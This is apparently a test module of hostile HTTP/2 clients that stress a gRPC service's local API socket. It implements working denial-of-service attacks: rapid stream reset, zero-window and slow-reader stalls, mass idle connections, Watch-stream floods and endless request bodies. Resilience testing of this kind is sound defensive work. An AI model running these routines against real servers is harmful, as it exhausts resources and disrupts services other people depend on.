"""Hostile HTTP/2 clients for netd's API socket, built on the h2 library.

    python -m tests.hostile ATTACK SOCKET SECONDS

Each attack runs for SECONDS, then closes what it opened and prints one
line saying what it did. Point it only at a netd whose socket a test made.
What each does follows shared/tools/h2attack, which found the holes in the
hand-made server netd had before grpcio's.
"""

from __future__ import annotations

import resource
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings

LIST = "/netd.v1.Netd/ListEndpoints"
CHECK = "/netd.v1.Netd/CheckEndpoint"
WATCH = "/grpc.health.v1.Health/Watch"
MAX_WINDOW = 2**31 - 1


def grpc_message(payload: bytes = b"") -> bytes:
    return b"\0" + struct.pack(">I", len(payload)) + payload


def request_headers(path: str) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "localhost"),
            ("content-type", "application/grpc"), ("te", "trailers")]


class Client:
    """One HTTP/2 connection to the socket, driven by hand."""

    def __init__(self, path: str, window: int | None = None, timeout: float = 2.0) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(timeout)
        self.sock.connect(path)
        self.conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
        settings = {} if window is None else {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window}
        self.conn.initiate_connection()
        if settings:
            self.conn.update_settings(settings)
        if window == MAX_WINDOW:
            self.conn.increment_flow_control_window(MAX_WINDOW - 65535)
        self.next_id = 1
        self.flush()

    def flush(self) -> bool:
        """Send what h2 has queued; False if the server stopped reading (or closed)."""
        try:
            self.sock.sendall(self.conn.data_to_send())
            return True
        except (TimeoutError, OSError):
            return False

    def call(self, path: str, payload: bytes = b"", end: bool = True, reset: bool = False) -> int:
        stream = self.next_id
        self.next_id += 2
        self.conn.send_headers(stream, request_headers(path))
        self.conn.send_data(stream, grpc_message(payload), end_stream=end)
        if reset:
            self.conn.reset_stream(stream)
        return stream

    def read(self) -> list:
        """Events of what the server sent; [] when nothing arrived in time."""
        try:
            data = self.sock.recv(1 << 16)
        except TimeoutError:
            return []
        if not data:
            raise ConnectionError("closed by the server")
        events = self.conn.receive_data(data)
        self.flush()
        return events

    def close(self) -> None:
        self.sock.close()


def hold_calls(path: str, seconds: float, connections: int, calls: int, method: str, window: int | None = None) -> None:
    """`connections` clients each send `calls` calls of `method`, all before reading anything, hold them
    for `seconds` without reading, then close."""
    clients = []
    for _ in range(connections):
        c = Client(path, window=window)
        for _ in range(calls):
            c.call(method)
        c.flush()
        clients.append(c)
    time.sleep(seconds)
    for c in clients:
        c.close()


def slow_reader(path: str, seconds: float) -> str:
    """8 connections with huge windows ask for 22 ListEndpoints answers each and never read them."""
    hold_calls(path, seconds, 8, 22, LIST, window=MAX_WINDOW)
    return "slow_reader: 8 connections x 22 ListEndpoints, never read"


def idle(path: str, seconds: float, count: int = 2000) -> str:
    """`count` connections that send the preface and then nothing."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 256, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    socks, failed = [], 0
    preface = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    preface.initiate_connection()
    hello = preface.data_to_send()
    for _ in range(count):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(3)
        try:
            sock.connect(path)
            sock.sendall(hello)
            socks.append(sock)
        except OSError:
            failed += 1
            sock.close()
    time.sleep(seconds)
    closed = 0
    for sock in socks:
        sock.setblocking(False)
        try:
            while sock.recv(1 << 16):
                pass
            closed += 1
        except (BlockingIOError, ConnectionResetError):
            pass
        sock.close()
    return f"idle: {len(socks)} connections held ({failed} failed), {closed} closed by the server"


def watch_streams(path: str, seconds: float) -> str:
    """5 connections x 1000 health Watch streams, sent before the server's SETTINGS are read."""
    hold_calls(path, seconds, 5, 1000, WATCH)
    return "watch_streams: 5 connections x 1000 health Watch streams"


def endless_request(path: str, seconds: float) -> str:
    """Unary calls whose request stream never ends: 60000-byte messages for
    as long as the server's flow-control windows let them through; when the
    server ends one, the next begins."""
    message = grpc_message(b"\x0a\xde\xd4\x03" + b"n" * (60000 - 4))
    sent, calls, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        client = Client(path, timeout=0.2)
        stream = client.call(LIST, end=False)
        calls += 1
        try:
            while time.monotonic() < deadline:
                room = min(client.conn.local_flow_control_window(stream), client.conn.max_outbound_frame_size)
                if room <= 0:
                    client.read()
                    continue
                client.conn.send_data(stream, (message * (room // len(message) + 1))[:room])
                if not client.flush():
                    break
                sent += room
        except (ConnectionError, h2.exceptions.H2Error):
            pass
        finally:
            client.close()
    return f"endless_request: {calls} calls, {sent >> 20} MiB sent within the server's windows"


def rapid_reset(path: str, seconds: float, container_id: str = "c1") -> str:
    """CheckEndpoint calls opened and reset at once, in batches of 200."""
    payload = b"\x0a" + bytes([len(container_id)]) + container_id.encode()
    streams, connections, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            client = Client(path, timeout=1.0)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        try:
            while time.monotonic() < deadline:
                for _ in range(200):
                    client.call(CHECK, payload, reset=True)
                if not client.flush():
                    break
                streams += 200
        except h2.exceptions.H2Error:
            pass
        client.close()
    return f"rapid_reset: {streams} streams opened and reset over {connections} connections"


def zero_window(path: str, seconds: float) -> str:
    """40 connections announce a window of 0, ask for 1024 ListEndpoints answers each, and never open it."""
    hold_calls(path, seconds, 40, 1024, LIST, window=0)
    return "zero_window: 40 connections x 1024 ListEndpoints with a window of 0"


ATTACKS = {f.__name__: f for f in (slow_reader, idle, watch_streams, endless_request, rapid_reset, zero_window)}

if __name__ == "__main__":
    name, path, seconds, *rest = sys.argv[1:]
    print(ATTACKS[name](path, float(seconds), *rest), flush=True)
